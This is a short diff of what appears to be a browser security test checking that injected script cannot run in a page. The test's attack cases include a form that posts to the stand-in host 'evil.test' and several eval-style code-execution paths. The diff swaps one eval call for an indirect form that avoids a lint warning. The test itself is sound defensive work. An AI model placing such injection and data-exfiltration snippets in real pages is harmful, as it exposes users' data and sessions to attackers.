@@ -126,8 +126,7 @@ test('S3.3 runs no script that gets into the page', async ({ page, troubles }) =
         (
           append('form', { action: 'https://evil.test/', method: 'post' }) as HTMLFormElement
         ).submit(),
-      // biome-ignore lint/security/noGlobalEval: this is the attack
-      evaluated: () => globalThis.eval('window.__ran = "evaluated"'),
+      evaluated: () => Reflect.get(window, 'eval')('window.__ran = "evaluated"'),
       constructed: () => new Function('window.__ran = "constructed"')(),
       timer: () => setTimeout('window.__ran = "timer"' as unknown as () => void),
     };
